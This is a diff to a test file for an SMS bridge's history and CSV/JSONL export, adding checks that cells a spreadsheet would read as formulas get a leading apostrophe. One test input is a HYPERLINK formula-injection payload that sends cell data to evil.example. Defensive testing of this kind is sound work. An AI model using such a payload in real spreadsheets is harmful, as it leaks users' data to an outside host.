@@ -1,11 +1,12 @@
 // History and audit export (issue 13): `/sms history` names the customer's thread and last SMS;
 // the export holds a reply, a failure, a click and a call as rows, JSONL each SMS's status
-// history, and --mask hides numbers and texts.
+// history, and --mask hides numbers and texts. The CSV is safe in a spreadsheet (issue 22): a
+// byte-order mark, and no cell read as a formula; JSONL keeps the texts as they were.
 import { afterEach, describe, expect, it } from "vitest";
 import { contacts } from "../../src/db/schema.ts";
-import { exportRows, parseExportArgs } from "../../src/replies/export.ts";
+import { csvCell, exportRows, parseExportArgs } from "../../src/replies/export.ts";
 import { settled } from "../support/discord-setup.ts";
-import { until } from "../support/harness.ts";
+import { processed, until } from "../support/harness.ts";
 import { GENERAL, type SlackWorld, startSlackWorld, untilInOrder } from "../support/slack-setup.ts";
 
 const A = "+33612345678";
@@ -75,23 +76,26 @@ describe("history and export", () => {
     }
     expect(await slackCommand("history Nobody")).toContain('No conversation found for "Nobody"');
 
-    const csv = (await exported(["--phone", A])).trim().split("\n");
+    const raw = await exported(["--phone", A]);
+    expect(raw.startsWith("\uFEFFtime,direction,")).toBe(true);
+    const csv = raw.slice(1).trim().split("\n");
     expect(csv[0]).toBe(
       "time,direction,phone,contact_name,author_id,author_name,platform,thread_link,text,status,status_time,provider_code,error,segments",
     );
     const rows = csv.slice(1);
     expect(rows).toHaveLength(6);
+    // Phone numbers are text to a spreadsheet ('+…), never the number 33612345678.
     expect(rows[0]).toMatch(
-      /,in,\+33612345678,Camille Durand,,,slack,slack:C0GENERAL:[\d.]+,"Hi, where is my order\?",received,/,
+      /,in,'\+33612345678,Camille Durand,,,slack,slack:C0GENERAL:[\d.]+,"Hi, where is my order\?",received,/,
     );
     expect(rows[1]).toMatch(
-      /,out,\+33612345678,Camille Durand,,Alice Martin,slack,.*,It ships today,received,.*,,,1$/,
+      /,out,'\+33612345678,Camille Durand,,Alice Martin,slack,.*,It ships today,received,.*,,,1$/,
     );
     expect(rows[3]).toMatch(/,out,.*,Can you hear me\?,failed,.*,#007,.*invalid phone number/);
     expect(rows[4]).toMatch(
-      /,click,\+33612345678,Camille Durand,.*,https:\/\/shop.example\/track,/,
+      /,click,'\+33612345678,Camille Durand,.*,https:\/\/shop.example\/track,/,
     );
-    expect(rows[5]).toMatch(/,call,\+33612345678,Camille Durand,/);
+    expect(rows[5]).toMatch(/,call,'\+33612345678,Camille Durand,/);
     expect((await exported([])).trim().split("\n")).toHaveLength(8);
 
     const jsonl = (await exported(["--phone", A, "--format", "jsonl"])).trim().split("\n");
@@ -107,7 +111,38 @@ describe("history and export", () => {
     expect(masked).not.toContain(A);
     expect(masked).not.toContain("It ships today");
     expect(masked).not.toContain("Camille");
-    expect(masked).toContain("+336******78");
+    expect(masked).toContain("'+336******78");
     await expect(exported(["--format", "xml"])).rejects.toThrow(/csv or jsonl/);
   }, 120_000);
+
+  it("a customer's text that a spreadsheet would run is written as text in the CSV, as it was in JSONL", async () => {
+    w = await startSlackWorld();
+    // Each text, and its CSV cell: a leading ' where a spreadsheet would read a formula.
+    const cases: [string, string][] = [
+      [
+        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`,
+      ],
+      ["+33 6 12 34 56 78 called", "'+33 6 12 34 56 78 called"],
+      ["-2+3", "'-2+3"],
+      ["@SUM(1+1)", "'@SUM(1+1)"],
+      ["Déjà vu, ça va ?", '"Déjà vu, ça va ?"'],
+      ["Plain =1+1", "Plain =1+1"],
+    ];
+    for (const [text] of cases) await w.h.sim.inbound(A, text);
+    await processed(w.h.bridge.database);
+    const raw = await exported(["--phone", A]);
+    expect(raw.startsWith("\uFEFFtime,")).toBe(true);
+    for (const [text, cell] of cases) expect(raw, text).toContain(`,${cell},received,`);
+    // A tab or a carriage return first is guarded too (the SMS path trims them, so directly).
+    expect(csvCell("\tTabbed")).toBe("'\tTabbed");
+    expect(csvCell("\rReturned")).toBe(`"'\rReturned"`);
+    expect(csvCell(3)).toBe("3");
+    const jsonl = (await exported(["--phone", A, "--format", "jsonl"]))
+      .trim()
+      .split("\n")
+      .map((l) => JSON.parse(l) as { text: string; phone: string });
+    expect(jsonl.map((r) => r.text)).toEqual(cases.map(([text]) => text));
+    expect(jsonl.every((r) => r.phone === A)).toBe(true);
+  });
 });
